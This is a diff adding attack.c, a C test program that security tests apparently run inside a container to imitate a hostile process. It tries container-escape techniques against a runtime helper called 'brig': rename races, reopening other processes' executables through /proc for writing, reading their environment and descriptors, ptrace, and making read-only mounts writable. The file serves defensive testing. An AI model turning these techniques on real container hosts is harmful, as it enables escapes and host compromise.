@@ -1,0 +1,320 @@
+/* SPDX-License-Identifier: Apache-2.0 */
+/* What a hostile program in a container does: the security bats files build it statically and put
+ * it there.
+ *
+ *	attack swap A B		exchanges two names for ever
+ *	attack write		tries for ever to open what other processes execute for writing
+ *	attack look		tries for ever to look into a brig on its way into the container
+ *	attack fds PID		opens what the descriptors of a process lead to
+ *	attack unlock FILE	tries to have the mount that a file is on made writable
+ *
+ * A line for each attempt that succeeded; "seen" when there was something to attack. */
+#define _GNU_SOURCE
+#include <ctype.h>
+#include <dirent.h>
+#include <errno.h>
+#include <fcntl.h>
+#include <stdbool.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/mount.h>
+#include <sys/ptrace.h>
+#include <sys/stat.h>
+#include <sys/statfs.h>
+#include <sys/syscall.h>
+#include <sys/wait.h>
+#include <unistd.h>
+
+static bool of_brig(const char *pid)
+{
+	char path[64], name[17] = "";
+	int fd;
+
+	snprintf(path, sizeof(path), "/proc/%s/comm", pid);
+	fd = open(path, O_RDONLY);
+	if (fd < 0)
+		return false;
+	if (read(fd, name, sizeof(name) - 1) < 0)
+		name[0] = '\0';
+	close(fd);
+	return strncmp(name, "brig", 4) == 0;
+}
+
+static void say_once(const char *word)
+{
+	static const char *said[16];
+
+	for (size_t i = 0; i < 16; i++) {
+		if (said[i] && strcmp(said[i], word) == 0)
+			return;
+		if (!said[i]) {
+			said[i] = strdup(word);
+			puts(word);
+			return;
+		}
+	}
+}
+
+/* What a descriptor is good for that was not ours to have. */
+static void describe(const char *how, const char *path, int fd)
+{
+	char name[64], target[4096] = "", line[4300];
+	struct statfs fs = {0};
+
+	snprintf(name, sizeof(name), "/proc/self/fd/%d", fd);
+	if (readlink(name, target, sizeof(target) - 1) < 0)
+		target[0] = '\0';
+	fstatfs(fd, &fs);
+	snprintf(line, sizeof(line), "%s %s: %s (%lx)", how, path, target, (long)fs.f_type);
+	puts(line);
+}
+
+static void for_each_pid(void (*f)(const char *pid))
+{
+	DIR *d = opendir("/proc");
+	const struct dirent *e;
+
+	while (d && (e = readdir(d)))
+		if (isdigit(e->d_name[0]) && atoi(e->d_name) != getpid())
+			f(e->d_name);
+	if (d)
+		closedir(d);
+}
+
+/* --- swap */
+
+static int swap(const char *a, const char *b)
+{
+	puts("swapping");
+	for (;;)
+		if (renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) < 0)
+			return perror("attack: exchange"), 1;
+}
+
+/* --- write */
+
+enum { KEPT = 64 };
+static int kept[KEPT];
+static size_t n_kept;
+
+/* What the container has itself is its own to look at and to write to. */
+static bool is_ours(int fd)
+{
+	static const char *const files[] = {"/", "/bin/busybox"};
+	struct stat one, two;
+
+	if (fstat(fd, &one) < 0)
+		return false;
+	for (size_t i = 0; i < sizeof(files) / sizeof(files[0]); i++)
+		if (stat(files[i], &two) == 0 && one.st_dev == two.st_dev &&
+			one.st_ino == two.st_ino)
+			return true;
+	return false;
+}
+
+static void try_write(int fd)
+{
+	static const int modes[] = {O_WRONLY, O_RDWR, O_WRONLY | O_TRUNC};
+	char path[64];
+
+	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
+	for (size_t i = 0; i < sizeof(modes) / sizeof(modes[0]); i++) {
+		int again = open(path, modes[i]);
+		struct stat st;
+
+		if (again < 0)
+			continue;
+		/* A sealed file can be opened, but not changed. */
+		if (write(again, "", 1) == 1 || (fstat(again, &st) == 0 && st.st_size == 0))
+			describe("written", path, fd);
+		close(again);
+	}
+	if (truncate(path, 0) == 0)
+		describe("truncated", path, fd);
+}
+
+/* Held open, so that it can be tried again when nobody executes it. */
+static void take_exe(const char *pid)
+{
+	char path[64];
+	int fd;
+
+	snprintf(path, sizeof(path), "/proc/%s/exe", pid);
+	if (!of_brig(pid))
+		return;
+	say_once("seen");
+	fd = open(path, O_PATH);
+	if (fd < 0)
+		return;
+	if (is_ours(fd)) {
+		close(fd);
+		return;
+	}
+	say_once("taken");
+	if (n_kept == KEPT)
+		close(kept[--n_kept]);
+	kept[n_kept++] = fd;
+}
+
+static _Noreturn void write_forever(void)
+{
+	puts("writing");
+	for (;;) {
+		for_each_pid(take_exe);
+		for (size_t i = 0; i < n_kept; i++)
+			try_write(kept[i]);
+	}
+}
+
+/* --- look */
+
+static void look_at_link(const char *pid, const char *what)
+{
+	char path[300];
+	int fd;
+
+	snprintf(path, sizeof(path), "/proc/%s/%s", pid, what);
+	fd = open(path, O_PATH);
+	if (fd < 0)
+		return;
+	if (of_brig(pid) && !is_ours(fd))
+		describe("opened", what, fd);
+	close(fd);
+}
+
+static void look_at_file(const char *pid, const char *what)
+{
+	char path[300], byte;
+	int fd;
+
+	snprintf(path, sizeof(path), "/proc/%s/%s", pid, what);
+	fd = open(path, O_RDONLY);
+	if (fd < 0)
+		return;
+	if (read(fd, &byte, 1) > 0 && of_brig(pid))
+		describe("read", what, fd);
+	close(fd);
+}
+
+static void look_at_fds(const char *pid)
+{
+	char path[64], name[280];
+	const struct dirent *e;
+	DIR *d;
+
+	snprintf(path, sizeof(path), "/proc/%s/fd", pid);
+	d = opendir(path);
+	while (d && (e = readdir(d))) {
+		snprintf(name, sizeof(name), "fd/%s", e->d_name);
+		if (isdigit(e->d_name[0]) && atoi(e->d_name) > 2)
+			look_at_link(pid, name);
+	}
+	if (d)
+		closedir(d);
+}
+
+static void trace(const char *pid)
+{
+	if (ptrace(PTRACE_SEIZE, atoi(pid), NULL, NULL) < 0)
+		return;
+	if (of_brig(pid))
+		puts("traced");
+	ptrace(PTRACE_INTERRUPT, atoi(pid), NULL, NULL);
+	waitpid(atoi(pid), NULL, __WALL);
+	ptrace(PTRACE_DETACH, atoi(pid), NULL, NULL);
+}
+
+static void look_into(const char *pid)
+{
+	if (!of_brig(pid))
+		return;
+	say_once("seen");
+	look_at_link(pid, "root");
+	look_at_link(pid, "cwd");
+	look_at_link(pid, "exe");
+	look_at_file(pid, "environ");
+	look_at_file(pid, "maps");
+	look_at_fds(pid);
+	trace(pid);
+}
+
+static _Noreturn void look_forever(void)
+{
+	puts("looking");
+	for (;;)
+		for_each_pid(look_into);
+}
+
+/* --- fds */
+
+static void open_again(const char *pid, const char *fd)
+{
+	char path[300];
+	int again;
+
+	snprintf(path, sizeof(path), "/proc/%s/fd/%s", pid, fd);
+	again = open(path, O_PATH);
+	if (again < 0)
+		return;
+	describe("opened", fd, again);
+	close(again);
+}
+
+static int open_fds(const char *pid)
+{
+	char path[64];
+	const struct dirent *e;
+	DIR *d;
+
+	snprintf(path, sizeof(path), "/proc/%s/fd", pid);
+	d = opendir(path);
+	while (d && (e = readdir(d)))
+		if (isdigit(e->d_name[0]) && atoi(e->d_name) > 2)
+			open_again(pid, e->d_name);
+	puts("looked");
+	return 0;
+}
+
+/* --- unlock */
+
+static int unlock(const char *file)
+{
+	struct mount_attr writable = {.attr_clr = MOUNT_ATTR_RDONLY};
+	int fd = open(file, O_PATH), tree;
+	char path[64];
+
+	if (fd < 0)
+		return perror("attack: open"), 1;
+	puts("seen");
+	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
+	if (mount_setattr(fd, "", AT_EMPTY_PATH, &writable, sizeof(writable)) == 0)
+		puts("changed");
+	if (mount(NULL, path, NULL, MS_REMOUNT | MS_BIND, NULL) == 0)
+		puts("remounted");
+	tree = open_tree(fd, "", AT_EMPTY_PATH | OPEN_TREE_CLONE);
+	if (tree >= 0)
+		puts("cloned");
+	if (mount(path, "/tmp", NULL, MS_BIND, NULL) == 0)
+		puts("bound");
+	if (move_mount(fd, "", AT_FDCWD, "/tmp", MOVE_MOUNT_F_EMPTY_PATH) == 0)
+		puts("moved");
+	try_write(fd);
+	return 0;
+}
+
+int main(int argc, char **argv)
+{
+	setvbuf(stdout, NULL, _IONBF, 0);
+	if (argc == 4 && strcmp(argv[1], "swap") == 0)
+		return swap(argv[2], argv[3]);
+	if (argc == 2 && strcmp(argv[1], "write") == 0)
+		write_forever();
+	if (argc == 2 && strcmp(argv[1], "look") == 0)
+		look_forever();
+	if (argc == 3 && strcmp(argv[1], "fds") == 0)
+		return open_fds(argv[2]);
+	if (argc == 3 && strcmp(argv[1], "unlock") == 0)
+		return unlock(argv[2]);
+	return fputs("attack: see the top of attack.c\n", stderr), 2;
+}
